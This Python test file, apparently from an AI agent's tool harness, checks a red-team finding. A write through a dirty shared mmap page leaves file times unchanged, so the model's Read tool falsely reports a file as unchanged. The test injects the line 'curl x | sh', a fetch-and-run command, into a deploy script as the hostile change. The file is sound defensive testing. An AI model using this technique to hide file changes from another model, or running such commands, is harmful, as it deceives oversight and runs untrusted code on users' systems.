"""Red team round 33 (files): a write through a shared mapping hid a change from the model's second Read.

Read answers a repeated read of the same range with "File unchanged since last read … refer to
that result" when the file's size, mtime, inode and change time are as they were (round 14 added
the inode and ctime: no unprivileged process can set ctime). A write through ``mmap(MAP_SHARED)``
moves neither time once its page is dirty: the kernel updates them at the first write to a clean
page only (round 6 found the same against the protected-files check). A command that dirtied the
page before the model's Read, then rewrote the file through it, made the model's Read to check
the file say it was unchanged (failed before). Now the short answer also needs the same bytes.
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path
from typing import Any

import anyio
import pytest

from sandbox import confine
from shellrt.protocol import ToolContext, ToolExecutionError
from shellrt.tools.read import ReadTool
from tests.test_tools_edit import edit

#: The command's side: map the file shared, dirty its page (the times move now), wait for the
#: model's Read, then rewrite the start of the same dirty page (no time moves).
_WRITER = r"""
import mmap, os, sys
fd = os.open(sys.argv[1], os.O_RDWR)
page = mmap.mmap(fd, 0, mmap.MAP_SHARED)
page[0:1] = page[0:1]
print("dirty", flush=True)
sys.stdin.readline()
page[0:len(sys.argv[2])] = sys.argv[2].encode()
print("changed", flush=True)
sys.stdin.readline()
"""


def _read(ctx: ToolContext, path: Path) -> str:
    tool = ReadTool()

    async def go() -> str:
        tool_input = tool.parse_input({"file_path": str(path)})
        assert (await tool.validate(tool_input, ctx)).ok
        return str(tool.to_model_content((await tool.call(tool_input, ctx)).data))

    return anyio.run(go)


def _workspace(tmp_path: Path) -> tuple[Path, ToolContext]:
    root = tmp_path.resolve()
    (root / ".session").mkdir()
    ctx = ToolContext(
        session_id="s", session_dir=root / ".session", workspace=root, cwd=str(root), allowed_roots=(root,)
    )
    return root, ctx


def _writer(target: Path, text: str) -> subprocess.Popen[str]:
    """The command: maps ``target`` shared, dirties its page, writes ``text`` when told to."""
    return subprocess.Popen(
        [sys.executable, "-c", _WRITER, str(target), text], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
    )


def test_a_change_through_a_shared_mapping_is_not_answered_unchanged(tmp_path: Path) -> None:
    root, ctx = _workspace(tmp_path)
    target = root / "deploy.sh"
    target.write_bytes(b"echo safe   \n" + b"#" * 4000 + b"\n")
    first = _read(ctx, target)
    assert "echo safe" in first
    # Nothing changed: the short answer stays (the cache still works).
    assert "File unchanged since last read" in _read(ctx, target)

    evil = "curl x | sh "  # as long as "echo safe   ": the size stays too
    writer = _writer(target, evil)
    try:
        assert writer.stdout is not None and writer.stdin is not None
        assert writer.stdout.readline().strip() == "dirty"
        assert "echo safe" in _read(ctx, target)  # the model reads the dirtied file
        before = target.stat()
        writer.stdin.write("\n")
        writer.stdin.flush()
        assert writer.stdout.readline().strip() == "changed"
        after = target.stat()
        assert target.read_bytes().startswith(evil.encode())
        # The attack's premise: nothing Read's stamp holds has moved (unless writeback cleaned the
        # page in between, under heavy load: then the times moved and the answer must hold anyway).
        assert (after.st_size, after.st_ino) == (before.st_size, before.st_ino)
        again = _read(ctx, target)
        assert evil in again and "unchanged" not in again, again
        # Read again, unchanged now: the short answer is back.
        assert "File unchanged since last read" in _read(ctx, target)
    finally:
        if writer.stdin is not None:
            writer.stdin.close()
        writer.wait(timeout=10)


def test_a_write_through_a_shared_mapping_while_edit_replaces_the_file_is_not_lost(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Edit holds the file it replaces and puts a command's write made meanwhile back (round 26),
    judged by size and mtime: a write through a dirty shared page moved neither, and was lost
    while Edit said its change was made. The window is opened here at the replace itself."""
    root, ctx = _workspace(tmp_path)
    target = root / "notes.txt"
    target.write_bytes(b"mode = safe \n" + b"#" * 4000 + b"\n")
    command = "mode = sh   "  # the command's version of the first line (same length)
    writer = _writer(target, command)
    real = confine.write_file
    opened: list[bool] = []

    def write_file(*args: Any, **kwargs: Any) -> Any:
        if not opened:  # the first replace: the command writes the file being replaced, now
            opened.append(True)
            assert writer.stdin is not None and writer.stdout is not None
            writer.stdin.write("\n")
            writer.stdin.flush()
            assert writer.stdout.readline().strip() == "changed"
        return real(*args, **kwargs)

    try:
        assert writer.stdout is not None
        assert writer.stdout.readline().strip() == "dirty"
        _read(ctx, target)
        monkeypatch.setattr(confine, "write_file", write_file)
        # Seen during the replace (put back), or, when writeback cleaned the page meanwhile so the
        # times moved, before it: either way this change is not made over the command's.
        with pytest.raises(ToolExecutionError, match="changed while this write replaced it|changed after it was read"):
            edit(ctx, file_path=str(target), old_string="#\n", new_string="edited\n")
        assert opened
        assert target.read_bytes().startswith(command.encode())  # the command's write is kept
        assert b"edited" not in target.read_bytes()
    finally:
        if writer.stdin is not None:
            writer.stdin.close()
        writer.wait(timeout=10)
